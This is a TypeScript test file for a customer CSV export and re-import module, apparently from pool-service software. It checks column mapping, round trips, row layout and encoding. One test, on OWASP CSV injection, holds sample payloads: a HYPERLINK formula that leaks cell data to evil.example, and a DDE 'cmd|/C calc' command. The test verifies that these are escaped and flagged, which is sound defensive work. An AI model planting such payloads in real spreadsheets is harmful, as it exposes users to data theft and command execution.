import fs from 'node:fs'
import path from 'node:path'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { FIXTURE_TECHNICIANS } from '../../tests/fixtures/customer-import/generate'
import { planOf, stored } from '../../tests/helpers/customer-import'
import { mapColumns } from './column-mapping'
import { describeDiff, diffImport, type ExistingCustomer } from './diff'
import { centsToAmount, customersToCsv, EXPORT_HEADERS } from './export-csv.server'

const FIXTURES = path.resolve(import.meta.dirname, '../../tests/fixtures/customer-import')
const OPTIONS = { technicians: FIXTURE_TECHNICIANS, defaultCountry: 'US' as const }

function customer(overrides: Partial<ExistingCustomer> = {}): ExistingCustomer {
  return {
    id: 'c1',
    customerName: 'Ann Smith',
    email: 'ann@example.com',
    phone: '+19545550101',
    billingAddress: null,
    notes: null,
    status: 'active',
    locations: [
      {
        id: 'l1',
        label: null,
        street: '1 Palm Ave',
        city: 'Davie',
        state: 'FL',
        postalCode: '33324',
        lat: 26.0765,
        lng: -80.2521,
        gateCode: '#1234',
        accessNotes: null,
        dogOnSite: true,
        minutesOnSite: 45,
        bodiesOfWater: [],
        plans: [],
      },
    ],
    ...overrides,
  }
}

const cells = (csv: string) => parse(csv, { bom: true }) as string[][]

describe('customersToCsv', () => {
  it('writes the columns the import maps by itself, with full confidence', () => {
    const [header] = cells(customersToCsv([customer()], OPTIONS))
    expect(header).toEqual([...EXPORT_HEADERS])
    const mapping = mapColumns(header ?? [])
    expect(mapping.filter((column) => column.confidence < 1)).toEqual([])
    expect(mapping.find((column) => column.header === 'Balance')?.field).toBeNull()
    expect(mapping.filter((column) => column.field).length).toBe(EXPORT_HEADERS.length - 1)
  })

  it('round-trips: export → import into an empty company reproduces the counts, and a re-import changes nothing', async () => {
    for (const file of ['skimmer.csv', 'pool-brain.csv', 'jobber.csv']) {
      const original = await planOf(fs.readFileSync(path.join(FIXTURES, file)))
      const company = stored(original)
      const exported = customersToCsv(company, OPTIONS)
      const reimported = await planOf(exported)
      expect([file, reimported.problems]).toEqual([file, []])
      expect([file, reimported.counts]).toEqual([file, { ...original.counts, rows: reimported.counts.rows }])
      const diff = diffImport(reimported, company)
      expect([file, describeDiff(diff.totals.customers)]).toEqual([file, `0 new, ${company.length} unchanged`])
      for (const tally of Object.values(diff.totals)) expect(tally.new + tally.changed).toBe(0)
    }
  })

  it('puts each of a location’s bodies of water and plans on its own row, repeating the customer and location', async () => {
    const ann = customer()
    const location = ann.locations[0]
    if (!location) throw new Error('no location')
    const both = {
      ...location,
      bodiesOfWater: [
        {
          id: 'b1',
          name: 'Pool',
          gallons: 15000,
          surface: 'plaster' as const,
          sanitizer: 'salt' as const,
          indoor: false,
        },
        { id: 'b2', name: 'Spa', gallons: 500, surface: null, sanitizer: null, indoor: null },
      ],
      plans: [
        {
          id: 'p1',
          weekday: 1,
          frequencyWeeks: 1,
          technicianId: 'tech-maya',
          serviceWindow: 'morning' as const,
          rateCents: 120050,
          rateType: 'monthly-plus-chemicals' as const,
          startsOn: '2026-01-05',
          endsOn: null,
        },
      ],
    }
    const rows = cells(customersToCsv([{ ...ann, balanceCents: 12345, locations: [both] }], OPTIONS))
    const at = (row: number, header: string) => rows[row]?.[EXPORT_HEADERS.indexOf(header as never)]
    expect(rows).toHaveLength(3)
    expect([at(1, 'Customer Name'), at(2, 'Customer Name'), at(1, 'Address'), at(2, 'Address')]).toEqual([
      'Ann Smith',
      'Ann Smith',
      '1 Palm Ave',
      '1 Palm Ave',
    ])
    expect([at(1, 'Phone'), at(1, 'Dog'), at(1, 'Minutes on Site'), at(1, 'Balance')]).toEqual([
      '(954) 555-0101',
      'Yes',
      '45',
      '123.45',
    ])
    expect([at(1, 'Body of Water'), at(1, 'Gallons'), at(1, 'Sanitizer'), at(2, 'Body of Water')]).toEqual([
      'Pool',
      '15000',
      'Salt',
      'Spa',
    ])
    expect([at(1, 'Day'), at(1, 'Technician'), at(1, 'Rate'), at(1, 'Rate Type'), at(2, 'Day')]).toEqual([
      'Monday',
      'Maya Flores',
      '1200.50',
      'Monthly plus chemicals',
      '',
    ])
    const again = await planOf(customersToCsv([{ ...ann, locations: [both] }], OPTIONS))
    expect(again.counts).toMatchObject({ customers: 1, locations: 1, bodiesOfWater: 2, plans: 1 })
    expect(again.customers[0]?.locations[0]?.plans[0]).toMatchObject({ rateCents: 120050, serviceWindow: 'morning' })
  })

  it('escapes formula-looking cells so a spreadsheet shows them as text (OWASP CSV injection)', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your invoice")'
    const evil = customer({
      customerName: hyperlink,
      notes: "@SUM(1+1)*cmd|' /C calc'!A0",
      billingAddress: '+1 (954) 555-0101',
      locations: [
        {
          ...(customer().locations[0] as ExistingCustomer['locations'][number]),
          gateCode: '-2+3',
          accessNotes: '\t=1+1',
        },
      ],
    })
    const exported = customersToCsv(
      [{ ...evil, balanceCents: -1250 }, customer({ customerName: '＝HYPERLINK("x")' })],
      OPTIONS,
    )
    const rows = cells(exported)
    for (const row of rows.slice(1)) {
      for (const cell of row) expect([cell, /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell)]).toEqual([cell, false])
    }
    expect(rows[1]?.[0]).toBe(`'${hyperlink}`)
    expect(rows[1]?.at(-1)).toBe("'-12.50")
    expect(rows[2]?.[0]).toBe('\'＝HYPERLINK("x")')
    // On the way back in, the apostrophe comes off and the formula is named as a problem, not stored silently.
    const back = await planOf(exported)
    expect(back.problems.map((problem) => problem.message)).toEqual([
      `Row 2: the customer name '=HYPERLINK("http://evil.example/?leak="…' looks like a spreadsheet formula, not a value. Remove the leading '=' if it is meant as text.`,
      "Row 2: the notes '@SUM(1+1)*cmd|' /C calc'!A0' looks like a spreadsheet formula, not a value. Remove the leading '@' if it is meant as text.",
      `Row 3: the customer name '＝HYPERLINK("x")' looks like a spreadsheet formula, not a value. Remove the leading '＝' if it is meant as text.`,
    ])
  })

  it('writes UTF-8 with a byte order mark and CRLF, and amounts exactly', () => {
    const csv = customersToCsv([customer({ customerName: 'José Peña' })], OPTIONS)
    expect(csv.charCodeAt(0)).toBe(0xfeff)
    expect(csv).toContain('\r\nJosé Peña,')
    expect([0, 5, 99, 100, 120050, -1250, 100_000_000].map(centsToAmount)).toEqual([
      '0.00',
      '0.05',
      '0.99',
      '1.00',
      '1200.50',
      '-12.50',
      '1000000.00',
    ])
  })
})
